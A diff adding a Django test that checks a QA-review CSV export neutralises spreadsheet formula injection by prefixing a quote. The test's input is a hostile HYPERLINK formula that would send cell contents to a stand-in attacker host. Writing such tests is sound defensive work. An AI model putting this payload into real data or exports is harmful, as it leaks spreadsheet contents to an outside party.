@@ -386,3 +386,12 @@ def test_own_case_page_is_refused_and_audited(six, readers):
     assert f'data-case="{case.pk}"' not in browser.get("/qa/").content.decode()
     assert AuditEvent.objects.filter(action="refused", target_type="qa-review", target_id=str(case.pk),
                                      username=r1.username).exists()
+
+
+def test_export_defuses_a_hostile_reason(six, client_for):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert review(client_for("qa_reviewer"), case_of(six[2]), decision="change", score="3b",
+                  reason=hostile).status_code == 200
+    response = client_for("admin").get("/api/analytics/export.csv?table=qa_reviews")
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["reason"] == "'" + hostile  # a spreadsheet shows it, never runs it
